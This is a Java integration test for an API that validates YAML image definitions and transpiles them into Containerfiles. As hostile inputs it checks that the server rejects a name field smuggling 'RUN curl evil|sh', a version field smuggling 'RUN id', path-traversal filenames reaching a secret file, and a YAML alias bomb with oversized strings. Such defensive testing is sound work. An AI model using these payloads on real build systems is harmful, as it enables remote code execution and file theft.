package dev.whence.control.image.api;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import dev.whence.control.ControlApi;
import dev.whence.control.ControlTest;
import dev.whence.control.image.GoldenArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.client.RestTestClient;

import static dev.whence.control.ControlApi.BOOTSTRAP_KEY;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

@ControlTest
class DefinitionApiIT {

	private static final JsonMapper JSON = new JsonMapper();

	@TempDir
	private static Path folder;

	@LocalServerPort
	private int port;

	private RestTestClient client;

	@DynamicPropertySource
	static void folder(DynamicPropertyRegistry registry) throws IOException {
		Path definitions = Files.createDirectories(folder.resolve("definitions"));
		Files.writeString(definitions.resolve("good.yml"), "name: Good\ndescription: g\nimage-type: fedora-kinoite\n");
		Files.writeString(definitions.resolve("broken.yaml"), "a: [");
		Files.writeString(definitions.resolve("readme.txt"), "no definition");
		Files.writeString(folder.resolve("secret.yml"), "secret");
		registry.add("whence.control.images.folder", () -> folder.toString());
	}

	@BeforeEach
	void connect() {
		this.client = new ControlApi(this.port).as(BOOTSTRAP_KEY);
	}

	@Test
	void verdictHasTheOriginalsMembersAndProblemsBeside() {
		Reply good = post("validate", Map.of("yaml_content", "name: a\ndescription: b\nmodules: []\n"));
		assertThat(good.json()).isEqualTo(JSON.readTree("""
				{"valid": true, "errors": null, "warnings": null, "problems": []}"""));
		Reply broken = post("validate", Map.of("yaml_content", "a: ["));
		assertThat(broken.json().get("valid").asBoolean()).isFalse();
		assertThat(broken.text("/errors/0")).startsWith("YAML syntax error: while parsing a flow node");
		assertThat(broken.json().get("warnings")).isEmpty();
		assertThat(broken.json().at("/problems/0/line").asInt()).isEqualTo(1);
		Reply typo = post("validate",
				Map.of("yaml_content", "name: a\ndescription: b\nmodules: [{type: scirpt}]\n", "warnings", true));
		assertThat(typo.json().get("valid").asBoolean()).isTrue();
		assertThat(typo.text("/problems/0/suggestion")).isEqualTo("script");
		assertThat(typo.text("/warnings/0")).startsWith("line 3, column 18: ");
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "5", "text", "[]", "\u0000", "&a [*a]", "a: \"\\ud800\"", "--- a\n--- b" })
	void whatIsNoDefinitionIsInvalidAndNoFailure(String yaml) {
		Reply verdict = post("validate", Map.of("yaml_content", yaml));
		assertThat(verdict.status()).isEqualTo(200);
		assertThat(verdict.json().get("valid").asBoolean()).isFalse();
		assertThat(post("transpile", Map.of("yaml_content", yaml)).status()).isEqualTo(400);
	}

	@Test
	void hostileTextsAreAnsweredQuickly() {
		String bomb = "l0: &l0 [x, x, x, x, x, x, x, x, x]\n";
		for (int i = 1; i < 20; i++) {
			bomb += "l%d: &l%d [%s]\n".formatted(i, i, ("*l" + (i - 1) + ", ").repeat(9));
		}
		for (String yaml : List.of(bomb, "[".repeat(900_000), "- ".repeat(400_000), "a: ".repeat(300_000),
				"x".repeat(999_999), "\"" + "\\x41".repeat(200_000) + "\"", "a\n".repeat(400_000), "? ".repeat(300_000),
				"9".repeat(900_000), "# ".repeat(400_000), "- a\n".repeat(200_000))) {
			Reply verdict = post("validate", Map.of("yaml_content", yaml));
			assertThat(verdict.status()).isEqualTo(200);
			assertThat(verdict.json().get("valid").asBoolean()).isFalse();
			assertThat(post("import/bluebuild", Map.of("yaml_content", yaml)).status()).isEqualTo(400);
		}
		for (String script : List.of("echo " + "x ".repeat(200_000), "a && ".repeat(90_000), "#\n".repeat(20_000),
				"password".repeat(50_000), "a # ".repeat(100_000), "\\".repeat(100_000), "if ".repeat(150_000))) {
			Map<String, String> body = Map.of("yaml_content",
					JSON.writeValueAsString(Map.of("name", "n", "description", "d", "modules", List.of(Map.of("type",
							"script", "condition", script.strip(), "scripts", List.of(script), "x".repeat(50), "y")))));
			assertThat(post("validate", body).status()).isIn(200, 422);
			assertThat(post("transpile", body).status()).isIn(200, 400, 422);
		}
	}

	@Test
	void batchHasAVerdictForEachInTheirOrder() {
		Reply verdicts = post("validate/batch",
				Map.of("items", List.of(Map.of("id", "a", "yaml_content", "name: a\ndescription: b\nmodules: []\n"),
						Map.of("id", "b", "yaml_content", "a: ["))));
		assertThat(verdicts.json().get("valid").asInt()).isEqualTo(1);
		assertThat(verdicts.json().get("invalid").asInt()).isEqualTo(1);
		assertThat(verdicts.text("/results/1/id")).isEqualTo("b");
		assertThat(verdicts.json().at("/results/1/valid").asBoolean()).isFalse();
		assertThat(post("validate/batch", Map.of("items", List.of())).text("/errors/0/pointer")).isEqualTo("/items");
		assertThat(post("validate/batch", Map.of("items", List.of(Map.of("id", "x")))).text("/errors/0/pointer"))
			.isEqualTo("/items/0/yaml_content");
		Map<String, Object> large = Map.of("yaml_content", "#".repeat(600_000));
		assertThat(post("validate/batch", Map.of("items", List.of(large, large))).status()).isEqualTo(413);
	}

	@Test
	void containerfileIsMadeWithTheDefaultsOfTheOriginal() {
		Reply made = post("transpile", Map.of("yaml_content", "name: a\ndescription: b\nmodules: []\n"));
		assertThat(made.status()).isEqualTo(200);
		assertThat(made.text("/image_type")).isEqualTo("fedora-sway-atomic");
		assertThat(made.text("/fedora_version")).isEqualTo("43");
		assertThat(made.json().get("enable_plymouth").asBoolean()).isTrue();
		assertThat(made.text("/containerfile")).startsWith("# ====").endsWith("/etc/environment\n").doesNotContain("✓");
	}

	@Test
	void imageTypeAutoLetsTheDefinitionDecide() {
		Map<String, Object> body = Map.of("yaml_content",
				"name: a\ndescription: b\nimage-type: fedora-kinoite\nmodules: []\n", "image_type", "auto");
		assertThat(post("transpile", body).text("/containerfile"))
			.contains("\nFROM quay.io/fedora-ostree-desktops/kinoite:43\n");
	}

	@Test
	void shellIsMendedUnlessTheCallerAsksForTheOldWay() {
		String yaml = "name: a\ndescription: b\nmodules:\n- type: script\n  scripts:\n  - |\n    cat <<EOF\n    x\n    EOF\n";
		assertThat(post("transpile", Map.of("yaml_content", yaml)).text("/containerfile"))
			.contains("RUN <<'WHENCE_SCRIPT'");
		assertThat(post("transpile", Map.of("yaml_content", yaml, "strict", false)).text("/containerfile"))
			.contains("RUN set -e; \\\n    cat <<EOF\n    x\n    EOF\n");
	}

	@Test
	void whatCannotBeTranspiledIsRefusedWithFieldAndLine() {
		Reply missing = post("transpile", Map.of("yaml_content", "name: a\n"));
		assertThat(missing.status()).isEqualTo(400);
		assertThat(missing.text("/detail"))
			.isEqualTo("Transpilation failed: Error: Missing required field: description");
		Reply injected = post("transpile",
				Map.of("yaml_content", "name: \"x\\nRUN curl evil|sh\"\ndescription: b\nmodules: []\n"));
		assertThat(injected.status()).isEqualTo(400);
		assertThat(injected.text("/detail")).isEqualTo(
				"Transpilation failed: name (line 1, column 7) must stand in one line without control characters");
		assertThat(injected.text("/errors/0/pointer")).isEqualTo("/yaml_content");
		Reply unbuildable = post("transpile",
				Map.of("yaml_content", "name: a\ndescription: b\nmodules: []\n", "image_type", "fedora-onyx"));
		assertThat(unbuildable.status()).isEqualTo(400);
		assertThat(unbuildable.text("/detail"))
			.startsWith("Transpilation failed: argument --image-type: invalid choice: 'fedora-onyx'");
		Reply version = post("transpile", Map.of("yaml_content", "name: a\n", "fedora_version", "43 AS x\nRUN id"));
		assertThat(version.status()).isEqualTo(422);
		assertThat(version.text("/errors/0/pointer")).isEqualTo("/fedora_version");
		Reply floating = post("transpile", Map.of("yaml_content",
				"name: a\ndescription: b\nmodules: []\nbase-image: x:1\n", "reproducible", true));
		assertThat(floating.text("/detail")).contains("base-image (line 4, column 13) must be pinned by its digest");
	}

	@Test
	void definitionsOfTheFolderAreListedAndRead() {
		Reply list = get("definitions/list");
		assertThat(list.json()).isEqualTo(JSON.readTree("""
				{"definitions": [
				  {"filename": "broken.yaml", "name": "broken", "description": null, "image_type": null,
				   "path": "definitions/broken.yaml"},
				  {"filename": "good.yml", "name": "Good", "description": "g", "image_type": "fedora-kinoite",
				   "path": "definitions/good.yml"}],
				 "total": 2}"""));
		assertThat(get("definitions/good.yml").text("/content")).startsWith("name: Good\n");
		assertThat(get("definitions/none.yml").status()).isEqualTo(404);
		Reply outside = get("definitions/..secret.yml");
		assertThat(outside.status()).isEqualTo(400);
		assertThat(outside.text("/error")).isEqualTo("Invalid filename");
		assertThat(get("definitions/..%5Csecret.yml").status()).isEqualTo(400);
		assertThat(get("definitions/..%2Fsecret.yml").status()).isEqualTo(400);
	}

	@Test
	void schemaIsServed() {
		Reply schema = get("schema");
		assertThat(schema.status()).isEqualTo(200);
		assertThat(schema.text("/$schema")).isEqualTo("https://json-schema.org/draft/2020-12/schema");
	}

	@Test
	void recipeOfBlueBuildBecomesADefinitionThatIsValid() {
		Reply imported = post("import/bluebuild", Map.of("yaml_content",
				"name: my os\nbase-image: quay.io/x/y\nimage-version: 43\nmodules:\n  - type: script\n    snippets: [echo a]\n  - type: fonts\n"));
		assertThat(imported.status()).isEqualTo(200);
		assertThat(imported.text("/name")).isEqualTo("my-os");
		assertThat(imported.text("/not_carried_over/0/path")).isEqualTo("modules[1].type");
		assertThat(post("validate", Map.of("yaml_content", imported.text("/yaml_content"))).json()
			.get("valid")
			.asBoolean()).isTrue();
		assertThat(post("import/bluebuild", Map.of("yaml_content", "x")).status()).isEqualTo(400);
	}

	@Test
	void clientsOfTheOriginalGetTheAnswersThatTheyKnow() throws IOException {
		Path samples = GoldenArchive.shared().resolve("samples/exousia/requests.json");
		assumeTrue(Files.exists(samples), "no sample requests beside this repository");
		List<String> wrong = new ArrayList<>();
		int sent = 0;
		for (JsonNode sample : JSON.readTree(Files.readString(samples))) {
			if (sample.get("path").asString().startsWith("/api/config")) {
				Reply reply = send(sample);
				String difference = difference(sample.get("expect"), reply);
				if (difference != null) {
					wrong.add(sample.get("name").asString() + ": " + difference);
				}
				sent++;
			}
		}
		assertThat(wrong).isEmpty();
		assertThat(sent).isGreaterThan(8);
	}

	private static String difference(JsonNode expected, Reply reply) {
		if (expected.get("status").asInt() != reply.status()) {
			return "answered " + reply.status() + " " + reply.json();
		}
		if (expected.has("keys")) {
			for (JsonNode key : expected.get("keys")) {
				if (!reply.json().has(key.asString())) {
					return "lacks " + key;
				}
			}
		}
		if (expected.has("contains") && !reply.json().toString().contains(expected.get("contains").asString())) {
			return "says " + reply.json();
		}
		if (expected.has("body")) {
			for (Map.Entry<String, JsonNode> member : expected.get("body").properties()) {
				if (!member.getValue().equals(reply.json().get(member.getKey()))) {
					return member.getKey() + " is " + reply.json().get(member.getKey());
				}
			}
		}
		return null;
	}

	private Reply send(JsonNode sample) {
		String path = sample.get("path").asString();
		if (sample.get("method").asString().equals("GET")) {
			return Reply.of(this.client.get().uri(path).exchange());
		}
		return Reply.of(this.client.post()
			.uri(path)
			.contentType(MediaType.APPLICATION_JSON)
			.body(JSON.writeValueAsBytes(sample.get("body")))
			.exchange());
	}

	private Reply post(String path, Map<String, ?> body) {
		return Reply.of(this.client.post()
			.uri("/api/config/" + path)
			.contentType(MediaType.APPLICATION_JSON)
			.body(JSON.writeValueAsBytes(body))
			.exchange());
	}

	private Reply get(String path) {
		return Reply
			.of(this.client.get().uri(URI.create("http://localhost:" + this.port + "/api/config/" + path)).exchange());
	}

}
